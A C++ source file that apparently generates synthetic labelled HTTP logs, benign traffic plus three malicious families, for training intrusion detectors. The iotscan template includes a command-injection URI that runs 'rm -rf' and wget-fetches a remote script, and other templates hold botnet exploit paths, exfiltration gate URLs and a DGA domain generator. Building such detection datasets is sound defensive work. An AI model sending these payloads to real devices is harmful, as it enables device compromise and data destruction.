#include "celest/synth.hpp"

#include <algorithm>
#include <cmath>

#include "json.hpp"

namespace celest {

using nlohmann::json;

namespace {

constexpr double kWindowSeconds = 1800.0;  // one 30-minute round per window
constexpr double kEpochBase = 1.6e9;

const std::vector<std::string>& word_pool() {
  static const std::vector<std::string> words = {
      "alpha", "photo",  "list",   "item",  "news",   "view",  "user",
      "track", "report", "detail", "cart",  "media",  "forum", "tag",
      "feed",  "page",   "story",  "event", "team",   "offer", "video",
      "img",   "doc",    "post",   "entry", "thread", "topic", "board",
  };
  return words;
}

std::string fill_pattern(std::string_view pattern, Rng& rng) {
  static const char* hex = "0123456789abcdef";
  static const char* b64 =
      "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
  std::string out;
  for (std::size_t i = 0; i < pattern.size(); ++i) {
    if (pattern[i] != '{') {
      out.push_back(pattern[i]);
      continue;
    }
    auto close = pattern.find('}', i);
    std::string_view key = pattern.substr(i + 1, close - i - 1);
    i = close;
    auto digits = [&](std::string_view k) {
      int n = 0;
      for (char c : k)
        if (c >= '0' && c <= '9') n = n * 10 + (c - '0');
      return n;
    };
    if (key.rfind("hex", 0) == 0) {
      int n = digits(key);
      for (int k = 0; k < n; ++k) out.push_back(hex[rng.uniform_int(16)]);
    } else if (key.rfind("b64", 0) == 0) {
      int n = digits(key);
      for (int k = 0; k < n; ++k) out.push_back(b64[rng.uniform_int(64)]);
    } else if (key.rfind("n", 0) == 0) {
      int n = digits(key);
      for (int k = 0; k < n; ++k) out.push_back(char('0' + rng.uniform_int(10)));
    } else if (key == "word") {
      out += word_pool()[rng.uniform_int(word_pool().size())];
    }
  }
  return out;
}

std::uint64_t lognormal_len(Rng& rng, double mu, double sigma) {
  double v = std::exp(mu + sigma * rng.normal());
  if (v < 0) v = 0;
  if (v > 5e7) v = 5e7;
  return static_cast<std::uint64_t>(v);
}

std::string stable_ip(std::string_view key) {
  std::uint64_t h = fnv1a64(key);
  int o1 = 1 + static_cast<int>(h % 222);       // 1..222
  int o2 = static_cast<int>((h >> 16) % 256);
  int o3 = static_cast<int>((h >> 32) % 256);
  int o4 = 1 + static_cast<int>((h >> 48) % 254);
  return std::to_string(o1) + "." + std::to_string(o2) + "." +
         std::to_string(o3) + "." + std::to_string(o4);
}

std::string dga_domain(Rng& rng, const std::vector<std::string>& tlds) {
  static const std::string consonants = "bcdfghjklmnpqrstvwxz";
  static const std::string vowels = "aeiou";
  int len = 8 + static_cast<int>(rng.uniform_int(5));
  std::string name;
  for (int i = 0; i < len; ++i) {
    name.push_back(i % 2 == 0 ? consonants[rng.uniform_int(consonants.size())]
                              : vowels[rng.uniform_int(vowels.size())]);
  }
  return name + "." + tlds[rng.uniform_int(tlds.size())];
}

// Zipf-ranked benign host pool shared by background and referer generation.
struct HostPool {
  std::vector<std::string> hosts;
  std::vector<double> cdf;

  explicit HostPool(std::uint64_t seed) {
    static const std::vector<std::string> stems = {
        "app",   "cloud", "data", "shop", "news",  "mail", "webz", "media",
        "photo", "game",  "dev",  "code", "blog",  "store", "tech", "info",
        "live",  "play",  "site", "zone", "hub",   "lab",  "pro",  "metro",
        "pulse", "nova",  "echo", "atlas", "orbit", "delta",
    };
    static const std::vector<std::string> tlds = {"com", "com", "com", "net",
                                                  "org", "io",  "edu", "co"};
    static const std::vector<std::string> subs = {"", "", "www.", "api.",
                                                  "cdn.", "static.", "m."};
    Rng rng(derive_seed(seed, "hostpool"));
    const int n = 800;
    hosts.reserve(n);
    for (int i = 0; i < n; ++i) {
      std::string h = subs[rng.uniform_int(subs.size())] +
                      stems[rng.uniform_int(stems.size())] +
                      stems[rng.uniform_int(stems.size())] +
                      std::to_string(rng.uniform_int(90) + 10) + "." +
                      tlds[rng.uniform_int(tlds.size())];
      hosts.push_back(std::move(h));
    }
    cdf.resize(n);
    double acc = 0.0;
    for (int i = 0; i < n; ++i) {
      acc += 1.0 / double(i + 1);  // Zipf s = 1
      cdf[i] = acc;
    }
  }

  const std::string& draw(Rng& rng) const {
    double u = rng.uniform() * cdf.back();
    auto it = std::upper_bound(cdf.begin(), cdf.end(), u);
    std::size_t i = std::min<std::size_t>(it - cdf.begin(), hosts.size() - 1);
    return hosts[i];
  }
};

const std::vector<std::string>& background_uas() {
  static const std::vector<std::string> uas = {
      "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, "
      "like Gecko) Chrome/114.0.0.0 Safari/537.36",
      "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 "
      "(KHTML, like Gecko) Chrome/113.0.0.0 Safari/537.36",
      "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:109.0) Gecko/20100101 "
      "Firefox/115.0",
      "Mozilla/5.0 (iPhone; CPU iPhone OS 16_5 like Mac OS X) "
      "AppleWebKit/605.1.15 (KHTML, like Gecko) Version/16.5 Mobile/15E148 "
      "Safari/604.1",
      "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, "
      "like Gecko) Chrome/114.0.0.0 Safari/537.36 Edg/114.0.1823.43",
      "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) "
      "Chrome/112.0.0.0 Safari/537.36",
      "Mozilla/5.0 (Linux; Android 13; Pixel 7) AppleWebKit/537.36 (KHTML, "
      "like Gecko) Chrome/114.0.0.0 Mobile Safari/537.36",
      "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 "
      "(KHTML, like Gecko) Version/16.4 Safari/605.1.15",
      "curl/7.88.1",
      "python-requests/2.31.0",
  };
  return uas;
}

const std::vector<std::string>& background_paths() {
  static const std::vector<std::string> paths = {
      "/",
      "/index.html",
      "/about.html",
      "/assets/app.{hex6}.js",
      "/assets/style.{hex6}.css",
      "/images/{word}{n2}.jpg",
      "/images/banner_{word}.png",
      "/api/v1/{word}?id={n4}",
      "/api/v2/{word}/{word}?page={n2}&ref={word}",
      "/blog/{word}-{word}",
      "/search?q={word}&lang=en",
      "/static/fonts/{word}.woff2",
      "/favicon.ico",
      "/download/{word}.zip?token={hex12}",
      "/account/{word}?session={hex8}",
      "/news/{n4}/{word}.html",
  };
  return paths;
}

}  // namespace

int window_of(const LogRecord& r) {
  return 1 + static_cast<int>((r.timestamp - kEpochBase) / kWindowSeconds);
}

std::vector<LogRecord> generate_background(int windows, int rate_per_window,
                                           std::uint64_t seed,
                                           std::uint64_t id_start) {
  if (rate_per_window <= 0) throw ConfigError("generate_background: rate > 0");
  HostPool pool(seed);
  Rng rng(derive_seed(seed, "background"));
  WeightedPool<std::string> methods{{{"GET", 0.82}, {"POST", 0.13}, {"HEAD", 0.05}}};
  WeightedPool<int> statuses{
      {{200, 0.80}, {304, 0.07}, {302, 0.04}, {404, 0.07}, {500, 0.02}}};
  WeightedPool<std::string> ctypes{{{"text/html", 0.45},
                                    {"application/json", 0.15},
                                    {"image/png", 0.08},
                                    {"image/jpeg", 0.07},
                                    {"text/css", 0.07},
                                    {"application/javascript", 0.08},
                                    {"-", 0.10}}};
  WeightedPool<int> ports{{{80, 0.85}, {8080, 0.10}, {8000, 0.05}}};

  std::vector<LogRecord> out;
  out.reserve(std::size_t(windows) * rate_per_window);
  std::uint64_t id = id_start;
  for (int w = 1; w <= windows; ++w) {
    for (int i = 0; i < rate_per_window; ++i) {
      LogRecord r;
      r.record_id = id++;
      r.timestamp = kEpochBase + (w - 1) * kWindowSeconds +
                    rng.uniform() * (kWindowSeconds - 1.0);
      r.host = pool.draw(rng);
      r.external_ip = stable_ip(r.host);
      r.external_port = ports.draw(rng);
      r.method = methods.draw(rng);
      r.uri = fill_pattern(background_paths()[rng.uniform_int(background_paths().size())], rng);
      r.status_code = statuses.draw(rng);
      std::string ct = ctypes.draw(rng);
      if (ct != "-") r.content_type = ct;
      r.user_agent = background_uas()[rng.uniform_int(background_uas().size())];
      double u = rng.uniform();
      if (u < 0.4) {
        r.referer = "http://" + r.host + "/";
      } else if (u < 0.7) {
        r.referer = "http://" + pool.draw(rng) +
                    fill_pattern("/search?q={word}", rng);
      }
      bool is_post = r.method == "POST";
      r.request_len = lognormal_len(rng, is_post ? 6.5 : 4.5, is_post ? 1.0 : 0.5);
      r.response_len = lognormal_len(rng, 7.5, 1.2);
      r.trans_depth = 1 + static_cast<std::uint32_t>(rng.uniform_int(4));
      r.version = rng.uniform() < 0.95 ? 1.1 : 1.0;
      r.label = Label::Benign;
      out.push_back(std::move(r));
    }
  }
  return out;
}

FamilyTemplate builtin_template(const std::string& name) {
  FamilyTemplate t;
  t.family = name;
  if (name == "iotscan") {
    t.domain_gen = FamilyTemplate::DomainGen::fixed_pool;
    t.domain_pool = {"cnc-pool1.xyz", "cnc-pool2.top", "node-sync3.biz"};
    t.uri_patterns = {
        "/shell?cd+/tmp;rm+-rf+*;wget+http://{n2}.{n2}.{n2}.{n2}/bin.sh",
        "/bin.sh",
        "/mozi.m",
        "/b/{word}.mips",
        "/gaf/{hex8}.sh",
    };
    t.ua_pool = {"Hello, world", "-", "Wget/1.19 (linux-gnu)"};
    t.methods.items = {{"GET", 0.9}, {"POST", 0.1}};
    t.statuses.items = {{200, 0.6}, {404, 0.4}};
    t.ctypes.items = {{"-", 0.6}, {"text/plain", 0.3}, {"application/octet-stream", 0.1}};
    t.ports.items = {{80, 0.4}, {8080, 0.3}, {2323, 0.3}};
    t.req_mu = 3.5; t.req_sigma = 0.3;
    t.resp_mu = 4.0; t.resp_sigma = 1.0;
    t.version = 1.0;
  } else if (name == "exfil") {
    t.domain_gen = FamilyTemplate::DomainGen::fixed_pool;
    t.domain_pool = {"stat-counter7.info", "metrics-sink2.net", "img-cache9.com"};
    t.uri_patterns = {
        "/gate.php?id={hex16}&cnt={n4}",
        "/panel/gate.php",
        "/image.php?wtf={b6424}",
        "/g/collect?v=2&cid={hex12}&data={b6432}",
        "/upd/{hex8}/check.php?u={hex16}",
    };
    t.ua_pool = {
        "Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 5.1)",
        "Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1; SV1)",
        "Microsoft-CryptoAPI/6.1",
    };
    t.methods.items = {{"POST", 0.8}, {"GET", 0.2}};
    t.statuses.items = {{200, 0.95}, {404, 0.05}};
    t.ctypes.items = {{"application/octet-stream", 0.5},
                      {"application/x-www-form-urlencoded", 0.4},
                      {"-", 0.1}};
    t.ports.items = {{80, 0.7}, {8080, 0.3}};
    t.req_mu = 8.0; t.req_sigma = 1.0;   // uploads dominate
    t.resp_mu = 4.0; t.resp_sigma = 0.5;
    t.version = 1.0;
  } else if (name == "routerbot") {
    t.domain_gen = FamilyTemplate::DomainGen::fixed_pool;
    t.domain_pool = {"fw-push1.cc", "fw-push2.pw", "dev-upgrade.ws"};
    t.uri_patterns = {
        "/ctrlt/DeviceUpgrade_1",
        "/picsdesc.xml",
        "/wanipcn.xml",
        "/GponForm/diag_Form?images/",
        "/HNAP1/",
        "/board.cgi?cmd={word}",
    };
    t.ua_pool = {"XTC", "GPON", "Hello-World", "-"};
    t.methods.items = {{"POST", 0.6}, {"GET", 0.4}};
    t.statuses.items = {{200, 0.5}, {401, 0.3}, {404, 0.2}};
    t.ctypes.items = {{"text/xml", 0.6}, {"-", 0.4}};
    t.ports.items = {{37215, 0.4}, {52869, 0.3}, {8080, 0.3}};
    t.req_mu = 6.0; t.req_sigma = 0.5;
    t.resp_mu = 4.5; t.resp_sigma = 0.8;
    t.version = 1.1;
  } else {
    throw ConfigError("unknown family template: " + name);
  }
  return t;
}

std::vector<std::string> builtin_template_names() {
  return {"iotscan", "exfil", "routerbot"};
}

std::vector<LogRecord> generate_family(const FamilyTemplate& tmpl, int n_events,
                                       int windows, std::uint64_t seed,
                                       std::uint64_t id_start) {
  if (n_events <= 0) throw ConfigError("generate_family: n_events > 0");
  Rng rng(derive_seed(seed, "family", fnv1a64(tmpl.family)));
  std::vector<LogRecord> out;
  out.reserve(n_events);
  std::uint64_t id = id_start;
  for (int i = 0; i < n_events; ++i) {
    int w = 1 + i % windows;  // round-robin keeps per-window counts exact
    int epoch = (w - 1) / std::max(tmpl.rotation_period, 1);

    std::string domain;
    switch (tmpl.domain_gen) {
      case FamilyTemplate::DomainGen::fixed_pool:
        domain = tmpl.domain_pool[rng.uniform_int(tmpl.domain_pool.size())];
        break;
      case FamilyTemplate::DomainGen::rotating_pool:
        domain = tmpl.domain_pool[epoch % tmpl.domain_pool.size()];
        break;
      case FamilyTemplate::DomainGen::dga: {
        Rng er(derive_seed(seed, "dga-epoch", fnv1a64(tmpl.family), epoch));
        domain = dga_domain(er, tmpl.dga_tlds.empty()
                                    ? std::vector<std::string>{"xyz", "top", "cc"}
                                    : tmpl.dga_tlds);
        break;
      }
    }

    LogRecord r;
    r.record_id = id++;
    r.timestamp = kEpochBase + (w - 1) * kWindowSeconds +
                  rng.uniform() * (kWindowSeconds - 1.0);
    r.host = domain;
    r.external_ip = stable_ip(domain + "#" + std::to_string(epoch));
    r.external_port = tmpl.ports.draw(rng);
    r.method = tmpl.methods.draw(rng);
    r.uri = fill_pattern(tmpl.uri_patterns[rng.uniform_int(tmpl.uri_patterns.size())], rng);
    r.status_code = tmpl.statuses.draw(rng);
    std::string ct = tmpl.ctypes.draw(rng);
    if (ct != "-") r.content_type = ct;
    std::string ua = tmpl.ua_pool[rng.uniform_int(tmpl.ua_pool.size())];
    if (ua != "-") r.user_agent = ua;
    r.request_len = lognormal_len(rng, tmpl.req_mu, tmpl.req_sigma);
    r.response_len = lognormal_len(rng, tmpl.resp_mu, tmpl.resp_sigma);
    r.trans_depth = 1;
    r.version = tmpl.version;
    r.label = Label::Malicious;
    r.family = tmpl.family;
    out.push_back(std::move(r));
  }
  return out;
}

ScenarioData assemble_scenario(const ScenarioConfig& config) {
  if (config.clients < 1) throw ConfigError("assemble_scenario: clients >= 1");
  ScenarioData data;
  data.config = config;
  data.client_windows.assign(config.clients, {});
  for (auto& cw : data.client_windows) cw.assign(config.windows, {});
  data.benign_test.assign(config.clients, {});
  data.trust_pool.assign(config.clients, {});

  std::uint64_t next_id = 1;
  auto note_truth = [&](const LogRecord& r) {
    data.truth.truth[r.record_id] = r.label;
    if (!r.family.empty()) data.family_of[r.record_id] = r.family;
  };

  // benign background + per-client benign test and trust slices
  for (int c = 0; c < config.clients; ++c) {
    auto bg = generate_background(config.windows, config.background_rate,
                                  derive_seed(config.seed, "bg", c), next_id);
    next_id += bg.size();
    Rng lrng(derive_seed(config.seed, "bglabel", c));
    int labeled_per_window = static_cast<int>(
        std::lround(config.background_rate * config.labeled_benign_fraction));
    std::vector<int> counter(config.windows + 1, 0);
    for (auto& r : bg) {
      note_truth(r);
      int w = window_of(r);
      // exact labeled count per window
      if (counter[w]++ >= labeled_per_window) r.label = Label::Unlabeled;
      data.client_windows[c][w - 1].push_back(std::move(r));
    }
    (void)lrng;

    auto btest = generate_background(config.windows,
                                     std::max(1, config.benign_test_per_client /
                                                     config.windows),
                                     derive_seed(config.seed, "bgtest", c), next_id);
    next_id += btest.size();
    for (auto& r : btest) note_truth(r);
    data.benign_test[c] = std::move(btest);

    auto btrust = generate_background(1, config.trust_benign,
                                      derive_seed(config.seed, "bgtrust", c), next_id);
    next_id += btrust.size();
    for (auto& r : btrust) note_truth(r);
    data.trust_pool[c] = std::move(btrust);
  }

  // per-client labeled-family counts, for trust-slice composition
  std::vector<std::vector<std::string>> labeled_families(config.clients);

  for (const auto& placement : config.families) {
    FamilyTemplate tmpl = builtin_template(placement.template_name);
    tmpl.rotation_period = placement.rotation_period;
    int span = config.windows - placement.start_window + 1;
    if (span < 1) throw ConfigError("assemble_scenario: start_window beyond range");

    for (int host_client : placement.client_ids) {
      if (host_client < 0 || host_client >= config.clients)
        throw ConfigError("assemble_scenario: family assigned to missing client");
      auto events = generate_family(
          tmpl, placement.events_per_client, span,
          derive_seed(config.seed, "fam", fnv1a64(tmpl.family), host_client),
          next_id);
      next_id += events.size();
      // shift into [start_window, windows]
      for (auto& r : events)
        r.timestamp += (placement.start_window - 1) * kWindowSeconds;

      // 80/20 split, disjoint by construction
      std::vector<std::size_t> order(events.size());
      for (std::size_t i = 0; i < order.size(); ++i) order[i] = i;
      Rng srng(derive_seed(config.seed, "split", fnv1a64(tmpl.family), host_client));
      srng.shuffle(order);
      std::size_t test_n = events.size() / 5;

      for (std::size_t k = 0; k < order.size(); ++k) {
        LogRecord& r = events[order[k]];
        note_truth(r);
        if (k < test_n) {
          data.family_test[tmpl.family].push_back(r);
          continue;
        }
        if (!placement.labeled) {
          r.label = Label::Unlabeled;
          r.family.clear();  // ground truth stays in the oracle maps
        }
        data.client_windows[host_client][window_of(r) - 1].push_back(r);
      }
      if (placement.labeled) labeled_families[host_client].push_back(tmpl.family);
    }
  }

  // trust slices: benign background plus the client's known-malicious
  // patterns, held out from training
  for (int c = 0; c < config.clients; ++c) {
    if (labeled_families[c].empty()) continue;
    int per_family = std::max(
        1, config.trust_malicious / static_cast<int>(labeled_families[c].size()));
    for (const auto& fam : labeled_families[c]) {
      FamilyTemplate tmpl = builtin_template(fam);
      auto events = generate_family(
          tmpl, per_family, config.windows,
          derive_seed(config.seed, "trust", fnv1a64(fam), c), next_id);
      next_id += events.size();
      for (auto& r : events) {
        note_truth(r);
        data.trust_pool[c].push_back(std::move(r));
      }
    }
  }

  // windows keep generation order; sort by timestamp for realism
  for (auto& cw : data.client_windows)
    for (auto& w : cw)
      std::stable_sort(w.begin(), w.end(), [](const LogRecord& a, const LogRecord& b) {
        return a.timestamp < b.timestamp;
      });

  // manifest with content hashes
  json manifest;
  manifest["seed"] = config.seed;
  manifest["clients"] = config.clients;
  manifest["windows"] = config.windows;
  json per_client = json::array();
  for (int c = 0; c < config.clients; ++c) {
    std::uint64_t h = 0xcbf29ce484222325ull;
    std::size_t count = 0, malicious = 0;
    for (const auto& w : data.client_windows[c]) {
      for (const auto& r : w) {
        h = fnv1a64(to_tsv_line(r), h);
        ++count;
        if (r.label == Label::Malicious) ++malicious;
      }
    }
    per_client.push_back({{"client", c},
                          {"records", count},
                          {"labeled_malicious", malicious},
                          {"hash", h}});
  }
  manifest["train"] = per_client;
  json fams = json::object();
  for (const auto& [fam, recs] : data.family_test) fams[fam] = recs.size();
  manifest["family_test_counts"] = fams;
  data.manifest_json = manifest.dump(2);
  return data;
}

}  // namespace celest
